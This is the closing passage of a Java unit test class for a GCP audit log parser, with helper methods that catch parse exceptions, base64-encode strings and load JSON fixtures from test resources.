  private InvalidRecordException invalid(JsonNode record) {
    return catchThrowableOfType(
        InvalidRecordException.class, () -> parser.parse(record, WHERE, c -> {}));
  }

  private static String base64(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  private static ObjectNode fixture(String name) {
    try {
      return (ObjectNode) JSON.readTree(resource(name));
    } catch (IOException e) {
      throw new UncheckedIOException(name, e);
    }
  }

  private static byte[] resource(String name) {
    try (InputStream in = GcpAuditLogParserTest.class.getResourceAsStream("/events/gcp/" + name)) {
      assertThat(in).as(name).isNotNull();
      return in.readAllBytes();
    } catch (IOException e) {
      throw new UncheckedIOException(name, e);
    }
  }
}
